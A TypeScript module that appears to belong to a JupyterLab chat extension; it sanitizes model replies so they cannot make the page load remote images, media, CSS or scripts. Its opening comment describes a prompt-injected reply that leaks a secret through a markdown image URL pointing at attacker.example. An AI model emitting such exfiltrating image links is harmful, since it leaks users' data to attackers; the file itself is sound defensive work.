/**
 * Model output never makes the page fetch anything (SPEC section 8).
 *
 * A prompt-injected reply can write `![](https://attacker.example/?q=<secret>)`: rendermime's
 * sanitizer keeps `<img src>` (and `<video poster>`, CSS `url()` in `style`, ...), and an image that
 * loads sends the URL, and whatever the model put into it, to that host. So a reply is rendered into
 * an inert document (no browsing context: nothing in it is fetched), every URL that would load
 * something is taken out there, and only then are the nodes put into the page. Remote images show as
 * a notice with their URL (a link for http(s): following it is the user's choice); `data:` URLs and
 * `#fragment` references stay, they load nothing from the network. Links (`<a href>`) stay links.
 */

/** Attributes whose URL the browser loads by itself (HTML and SVG, current and legacy). */
const LOADING_ATTRIBUTES = new Set([
  'src',
  'poster',
  'background',
  'data',
  'lowsrc',
  'dynsrc',
  'ping',
  'href',
  'xlink:href'
]);

/** Attributes that always go: candidate lists (not worth parsing: data: URLs hold commas), srcdoc. */
const DROPPED_ATTRIBUTES = new Set(['srcset', 'imagesrcset', 'srcdoc']);

/** Elements whose `href` is a link the user may follow, not something the page loads. */
const LINK_ELEMENTS = new Set(['a', 'area']);

/**
 * Elements that act when inserted (a refresh, the base URL, a script, a stylesheet, an SVG animation
 * that sets an attribute later): never kept from model output.
 */
const DROPPED_ELEMENTS = new Set([
  'meta',
  'base',
  'script',
  'link',
  'set',
  'animate',
  'animatemotion',
  'animatetransform'
]);

/** Media elements: when they named a remote URL, the notice replaces the whole element. */
const MEDIA_ELEMENTS = new Set([
  'img',
  'input',
  'video',
  'audio',
  'picture',
  'source',
  'track',
  'image'
]);

/** Media elements that show nothing without a URL. */
const EMPTY_MEDIA =
  'img:not([src]), video:not([src]), audio:not([src]), input[type="image" i]:not([src])';

const SVG_NAMESPACE = 'http://www.w3.org/2000/svg';

/** CSS that may load something, or that is not worth reading closely (an escape could spell one). */
const CSS_MAY_LOAD = /image-set\s*\(|image\s*\(|@import|\\/i;
/** The argument of a CSS `url(` (quoted or not). */
const CSS_URL = /url\s*\(\s*(['"]?)([^'")]*)/gi;

let inertDocument: Document | null = null;

/**
 * An element of a document that has no browsing context: an `<img>` created in it (by `innerHTML`,
 * too) is not fetched. Nodes moved into the page from it are adopted by the page then.
 */
export function inertElement(tag: string, className = ''): HTMLElement {
  inertDocument ??= document.implementation.createHTMLDocument('');
  const node = inertDocument.createElement(tag);
  if (className) {
    node.className = className;
  }
  return node;
}

/**
 * Take out of `root`'s subtree every URL that the browser would load by itself once in the page;
 * remote images and media become a visible notice with their URL. Returns how many URLs it took out.
 */
export function blockRemoteResources(root: Element): number {
  const blocked = new Map<Element, string[]>();
  let count = 0;
  for (const node of Array.from(root.querySelectorAll('*'))) {
    const tag = node.localName.toLowerCase();
    if (DROPPED_ELEMENTS.has(tag) || (tag === 'style' && cssLoadsRemote(node.textContent ?? ''))) {
      count += 1;
      node.remove();
      continue;
    }
    const svg = node.namespaceURI === SVG_NAMESPACE;
    const urls: string[] = [];
    for (const attribute of Array.from(node.attributes)) {
      const name = attribute.name.toLowerCase();
      const value = attribute.value.trim();
      let shown: string | null = null; // the URL to show, '' for none; null: the attribute stays
      if (DROPPED_ATTRIBUTES.has(name)) {
        shown = name === 'srcdoc' || /^data:/i.test(value) ? '' : value.split(/\s+/)[0];
      } else if (LOADING_ATTRIBUTES.has(name)) {
        const link = (name === 'href' || name === 'xlink:href') && LINK_ELEMENTS.has(tag);
        shown = !link && isRemote(value) ? value : null;
      } else if ((name === 'style' || svg) && cssLoadsRemote(value)) {
        // CSS: a style attribute, or an SVG presentation attribute (fill="url(...)")
        shown = '';
      }
      if (shown !== null) {
        node.removeAttribute(attribute.name);
        count += 1;
        if (shown !== '' && MEDIA_ELEMENTS.has(tag)) {
          urls.push(shown);
        }
      }
    }
    if (urls.length > 0) {
      blocked.set(node, urls);
    }
  }
  // Media left with nothing to load (the sanitizer keeps `<img srcset>` without its srcset, and a
  // `<video>` without its `<source src>`) would show a broken image or an empty player: a notice too.
  for (const node of Array.from(root.querySelectorAll(EMPTY_MEDIA))) {
    if (!blocked.has(node) && node.querySelector('source[src]') === null) {
      blocked.set(node, []);
    }
  }
  showBlocked(blocked);
  return count;
}

/** Replace each media element that named remote URLs (its outermost media ancestor) with notices. */
function showBlocked(blocked: Map<Element, string[]>): void {
  const owners = new Map<Element, string[]>();
  for (const [node, urls] of blocked) {
    let owner = node;
    for (let parent = node.parentElement; parent !== null; parent = parent.parentElement) {
      if (MEDIA_ELEMENTS.has(parent.localName.toLowerCase())) {
        owner = parent;
      }
    }
    owners.set(owner, [...(owners.get(owner) ?? []), ...urls]);
  }
  for (const [owner, urls] of owners) {
    const kind = owner.localName.toLowerCase();
    const alt = owner.getAttribute('alt') ?? owner.getAttribute('aria-label') ?? '';
    const label = kind === 'video' ? 'Video' : kind === 'audio' ? 'Audio' : 'Image';
    const inLink = (owner.parentElement?.closest('a') ?? null) !== null;
    const unique = urls.length > 0 ? [...new Set(urls)] : [''];
    owner.replaceWith(...unique.map(url => notice(owner.ownerDocument, label, alt, url, inLink)));
  }
}

/**
 * "Image not loaded: <url>", the URL a link when it is http(s) (never `javascript:` or the like) and
 * the image was not already inside a link (a badge: `[![build](img)](page)`).
 */
function notice(
  doc: Document,
  label: string,
  alt: string,
  url: string,
  inLink: boolean
): HTMLElement {
  const node = doc.createElement('span');
  node.className = 'jp-StreamChat-remoteResource';
  const named = alt && alt !== 'Image' ? ` "${alt}"` : ''; // rendermime sets alt="Image" when none
  node.appendChild(doc.createTextNode(`${label}${named} not loaded${url ? ': ' : ''}`));
  if (url === '') {
    return node;
  }
  node.dataset.remoteUrl = url;
  let target: URL | null = null;
  try {
    target = new URL(url, document.baseURI);
  } catch {
    // not a URL: shown as text
  }
  if (!inLink && target !== null && (target.protocol === 'https:' || target.protocol === 'http:')) {
    const link = doc.createElement('a');
    link.href = target.href;
    link.target = '_blank';
    link.rel = 'noopener noreferrer';
    link.referrerPolicy = 'no-referrer';
    link.textContent = url;
    link.title = `Open ${url} (a remote resource named by the reply; it was not loaded)`;
    node.appendChild(link);
  } else {
    node.appendChild(doc.createElement('code')).textContent = url;
  }
  return node;
}

/** Would the browser fetch `value` from somewhere (anything but a `data:` URL or a `#fragment`)? */
function isRemote(value: string): boolean {
  const url = value.trim();
  return url !== '' && !url.startsWith('#') && !/^data:/i.test(url);
}

/** Whether CSS text loads a remote resource (an escape or @import counts: it is not worth parsing). */
function cssLoadsRemote(css: string): boolean {
  if (CSS_MAY_LOAD.test(css)) {
    return true;
  }
  for (const match of css.matchAll(CSS_URL)) {
    if (isRemote(match[2])) {
      return true;
    }
  }
  return false;
}
